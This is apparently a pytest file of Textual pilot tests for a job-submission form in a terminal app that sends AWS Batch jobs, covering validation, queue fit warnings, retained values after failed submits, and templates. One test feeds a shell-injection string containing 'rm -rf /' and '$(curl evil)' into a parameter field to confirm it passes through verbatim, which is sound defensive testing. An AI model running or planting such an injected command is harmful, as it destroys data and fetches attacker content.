"""Pilot tests of the submit form: validation, live fit check, confirm, failed submits keep the form."""

from __future__ import annotations

import uuid

from textual.widgets import Input, Select, Static

from hybridml.config import SubmitTemplate
from hybridml.fleet.embedded import EmbeddedFleet
from hybridml.services import Services
from hybridml.tui.app import HybridApp
from hybridml.tui.screens.confirm import ConfirmScreen
from hybridml.tui.screens.progress import ProgressScreen
from hybridml.tui.screens.submit_form import SubmitScreen
from tests.conftest import TEST_AWS, make_services
from tests.tui.helpers import wait_for


def loaded(app: HybridApp, kind: str) -> bool:
    view = app.views.get(kind)
    return app.current_kind == kind and view is not None and view.loaded_at is not None


def form(app: HybridApp) -> SubmitScreen:
    assert isinstance(app.screen, SubmitScreen)
    return app.screen


def text_of(app: HybridApp, selector: str) -> str:
    return str(app.screen.query_one(selector, Static).render())


async def open_form(pilot: object, app: HybridApp) -> SubmitScreen:
    await wait_for(pilot, lambda: loaded(app, "jobs"))  # type: ignore[arg-type]
    await pilot.press("n")  # type: ignore[attr-defined]
    await wait_for(pilot, lambda: isinstance(app.screen, SubmitScreen) and app.screen.catalog_loaded)  # type: ignore[arg-type]
    return form(app)


def fill(screen: SubmitScreen, **values: str) -> None:
    for key, value in values.items():
        screen.field(key).value = value


def submits(services: Services) -> int:
    return services.session.meter.by_operation.get("SubmitJob", 0)


async def test_validation_errors_block_sending(app: HybridApp) -> None:
    async with app.run_test(size=(120, 50)) as pilot:
        screen = await open_form(pilot, app)
        fill(screen, queue="cpu-etl", job_definition="etl-parquet")
        screen.field("job_name").focus()
        await pilot.press("minus", *"bad", "space", *"name")
        fill(screen, vcpus="-2", memory_mib="lots", array_size="1")
        await pilot.press("ctrl+s")
        await pilot.pause()
        errors = text_of(app, "#submit-errors")
        assert "memory: 'lots' is not a whole number" in errors
        fill(screen, memory_mib="")
        await pilot.pause()
        errors = text_of(app, "#submit-errors")
        assert "must start with a letter or a digit" in errors
        assert "vCPUs must be more than 0" in errors
        assert "array size must be 2..10000" in errors
        assert isinstance(app.screen, SubmitScreen)  # no confirm: nothing can be sent
        assert screen.field("job_name").value == "-bad name"
        assert submits(app.services) == 0


async def test_gpu_job_on_cpu_queue_warns_before_sending(app: HybridApp, fleet: EmbeddedFleet) -> None:
    async with app.run_test(size=(120, 50)) as pilot:
        screen = await open_form(pilot, app)
        fill(screen, queue="cpu-etl", job_definition="yolo-dog-detect", job_name=f"yolo-on-cpu-{uuid.uuid4().hex[:6]}")
        await pilot.pause()
        fit = text_of(app, "#submit-fit")
        assert "will never run" in fit
        assert "needs 1 GPU but cpu-ondemand has only CPU instance types" in fit
        assert screen.fit is not None and not screen.fit.ok
        # the definition's Ref:: parameters got fields prefilled from its defaults
        assert screen.param_keys == ["video_url", "callback_url"]
        assert screen.query_one("#p-0", Input).value == "https://example.com/videos/dogs.mp4"
        await pilot.press("ctrl+s")
        await wait_for(pilot, lambda: isinstance(app.screen, ConfirmScreen))
        confirm = app.screen
        assert isinstance(confirm, ConfirmScreen) and "NEVER" in confirm.title_text
        await pilot.press("escape")
        await wait_for(pilot, lambda: isinstance(app.screen, SubmitScreen))
        assert submits(app.services) == 0
        # the same job on a GPU queue fits
        fill(screen, queue="gpu-inference")
        await pilot.pause()
        assert screen.fit is not None and screen.fit.ok
        assert "fits: gpu-ondemand (g5.xlarge)" in text_of(app, "#submit-fit")
        # a FAILED dependency means the job will not start; an unknown id is flagged too
        fill(screen, depends_on=f"{fleet.seeded.failed_dependency}, no-such-job")
        await wait_for(pilot, lambda: "not found in Batch" in text_of(app, "#hint-depends"))
        assert "etl-upstream-extract FAILED: this job will not start" in text_of(app, "#hint-depends")


async def test_failed_submit_keeps_every_typed_value(app: HybridApp) -> None:
    async with app.run_test(size=(120, 50)) as pilot:
        screen = await open_form(pilot, app)
        typed = {
            "queue": "spot-archive",
            "job_definition": "etl-parquet",
            "job_name": f"archive-{uuid.uuid4().hex[:6]}",
            "vcpus": "3",
            "environment": "MODE=full 'NOTE=two words'",
            "timeout_s": "600",
        }
        fill(screen, **typed)
        await pilot.pause()
        screen.query_one("#p-0", Input).value = "2026-01-02"
        assert "spot-archive is DISABLED" in text_of(app, "#submit-fit")
        await pilot.press("ctrl+s")
        await wait_for(pilot, lambda: isinstance(app.screen, ConfirmScreen))
        await pilot.click("#confirm-ok")
        await wait_for(pilot, lambda: bool(screen.send_error))
        await wait_for(pilot, lambda: isinstance(app.screen, ProgressScreen) and app.screen.done)
        await pilot.press("escape")  # the failed progress dialog stays until read; the form is under it
        await wait_for(pilot, lambda: app.screen is screen and "Batch refused" in text_of(app, "#submit-errors"))
        assert "DISABLED" in screen.send_error and "outcome unknown" not in screen.send_error
        assert {k: screen.field(k).value for k in typed} == typed
        assert screen.query_one("#p-0", Input).value == "2026-01-02"
        # an unknown definition is caught before anything is sent, and the values stay too
        sent = submits(app.services)
        fill(screen, queue="cpu-etl", job_definition="no-such-definition")
        await pilot.press("ctrl+s")
        await pilot.pause()
        assert "no ACTIVE job definition 'no-such-definition'" in text_of(app, "#submit-errors")
        assert isinstance(app.screen, SubmitScreen) and submits(app.services) == sent
        assert screen.field("environment").value == typed["environment"]


async def test_submit_selects_the_new_job_and_sends_params_verbatim(app: HybridApp) -> None:
    nasty = "2026-01-01; rm -rf / && $(curl evil) `id` | tee x"
    name = f"etl-adhoc-{uuid.uuid4().hex[:6]}"
    async with app.run_test(size=(120, 50)) as pilot:
        screen = await open_form(pilot, app)
        fill(screen, queue="cpu-etl", job_definition="etl-parquet", job_name=name, retry_attempts="2")
        await pilot.pause()
        screen.query_one("#p-0", Input).value = nasty
        await pilot.press("ctrl+s")
        await wait_for(pilot, lambda: isinstance(app.screen, ConfirmScreen))
        await pilot.click("#confirm-ok")
        await wait_for(pilot, lambda: not isinstance(app.screen, SubmitScreen | ConfirmScreen))
        jobs = app.views["jobs"]
        await wait_for(pilot, lambda: jobs.selected is not None and jobs.selected.name == name)
        job = await app.services.batch.job(jobs.selected.job_id)  # type: ignore[union-attr]
        assert job is not None and dict(job.parameters)["date"] == nasty and job.retry_attempts == 2


async def test_template_prefills_the_form(fleet: EmbeddedFleet) -> None:
    from hybridml.config import Settings

    template = SubmitTemplate(
        queue="gpu-inference",
        job_definition="yolo-dog-detect",
        parameters={"video_url": "s3://videos/park.mp4"},
        vcpus=2,
        environment={"CONF": "0.5"},
    )
    settings = Settings(aws=TEST_AWS, audit_log="", templates={"yolo-park": template})
    app = HybridApp(make_services(fleet, settings))
    async with app.run_test(size=(120, 50)) as pilot:
        screen = await open_form(pilot, app)
        screen.query_one("#submit-template", Select).value = "yolo-park"
        await wait_for(pilot, lambda: screen.field("queue").value == "gpu-inference")
        await wait_for(pilot, lambda: screen.param_keys == ["video_url", "callback_url"])
        assert screen.field("vcpus").value == "2" and screen.field("environment").value == "CONF=0.5"
        assert screen.query_one("#p-0", Input).value == "s3://videos/park.mp4"
        assert screen.query_one("#p-1", Input).value == "http://127.0.0.1:8765/"


async def test_unreachable_batch_keeps_the_form_and_says_so(fleet: EmbeddedFleet) -> None:
    from hybridml.config import AwsSettings, Settings

    services = Services.build(
        Settings(aws=AwsSettings(connect_timeout_s=0.5, read_timeout_s=0.5, max_attempts=1), audit_log=""),
        region="us-east-1",
        endpoint_url="http://127.0.0.1:9",
        static_credentials=("a", "b"),
    )
    app = HybridApp(services)
    async with app.run_test(size=(120, 50)) as pilot:
        await wait_for(pilot, lambda: app.views["jobs"].error is not None)
        await pilot.press("n")  # the view's keys work while the endpoint is down
        await wait_for(pilot, lambda: isinstance(app.screen, SubmitScreen) and bool(app.screen.send_error))
        screen = form(app)
        assert "cannot read queues/definitions" in screen.send_error and not screen.catalog_loaded
        fill(screen, queue="cpu-etl", job_definition="etl-parquet", job_name="offline-1", vcpus="2")
        await pilot.press("ctrl+s")
        await wait_for(pilot, lambda: isinstance(app.screen, ConfirmScreen))
        await pilot.click("#confirm-ok")
        await wait_for(pilot, lambda: "outcome unknown" in screen.send_error)
        await wait_for(pilot, lambda: isinstance(app.screen, ProgressScreen) and app.screen.done)
        await pilot.press("escape")
        await wait_for(pilot, lambda: app.screen is screen)
        assert screen.field("vcpus").value == "2"
        errors = text_of(app, "#submit-errors")
        assert "check :jobs before submitting again" in errors and "refused" not in errors  # never contradicts
        # the same submit again asks first: the last one may have landed
        await pilot.press("ctrl+s")
        await wait_for(pilot, lambda: isinstance(app.screen, ConfirmScreen))
        assert app.screen.title_text == "The last one may have landed: check :jobs first?"  # type: ignore[attr-defined]
        assert "Check first" in str(app.screen.query_one("#confirm-cancel").render())
